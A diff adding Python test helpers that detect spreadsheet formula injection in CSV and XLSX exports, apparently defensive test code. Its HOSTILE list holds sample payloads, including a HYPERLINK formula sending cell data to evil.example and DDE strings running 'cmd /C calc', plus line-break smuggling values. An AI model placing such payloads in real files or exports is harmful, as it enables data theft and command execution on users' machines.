@@ -27,3 +27,52 @@ def login(client: TestClient, email: str) -> None:
     response = client.post("/login", data={"email": email, "password": PASSWORD, "csrf_token": csrf(page.text)},
                            follow_redirects=False)
     assert response.status_code == 303, response.text
+
+
+# Text that a spreadsheet would evaluate if it reached a cell as it is: a formula, a DDE command, a tab or a
+# carriage return in front of one.
+HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "=1+1", "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "="]
+# Text that begins harmlessly but carries a line break, after which a spreadsheet would start a new row.
+BREAKING = ["ok\r=1+1", "ok\n=1+1", "ok\r\n@SUM(1)"]
+_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _plain_number(text: str) -> bool:
+    # Written apart from the product's rule on purpose: "-3" or "+1.5" is a number to a spreadsheet.
+    from decimal import Decimal, InvalidOperation
+
+    if text != text.strip() or not text.lstrip("+-")[:1].isascii() or not text.lstrip("+-")[:1].isdigit():
+        return False
+    try:
+        return Decimal(text).is_finite()
+    except InvalidOperation:
+        return False
+
+
+def live_formula(value: object) -> bool:
+    """A cell value read back from a file that a spreadsheet would evaluate."""
+    return isinstance(value, str) and value.startswith(_TRIGGERS) and not _plain_number(value)
+
+
+def csv_cells(content: bytes) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
+
+
+def live_csv_cells(content: bytes) -> list[str]:
+    """The cells of a CSV file that would run as formulas."""
+    return [value for row in csv_cells(content) for value in row if live_formula(value)]
+
+
+def live_xlsx_cells(content: bytes) -> list[str]:
+    """The cells of a workbook, on every sheet, that are formulas or text a spreadsheet would evaluate."""
+    import io
+
+    from openpyxl import load_workbook
+
+    workbook = load_workbook(io.BytesIO(content))
+    return [f"{sheet.title}!{c.coordinate}={c.value!r}" for sheet in workbook for row in sheet.iter_rows()
+            for c in row if c.data_type == "f" or live_formula(c.value)]
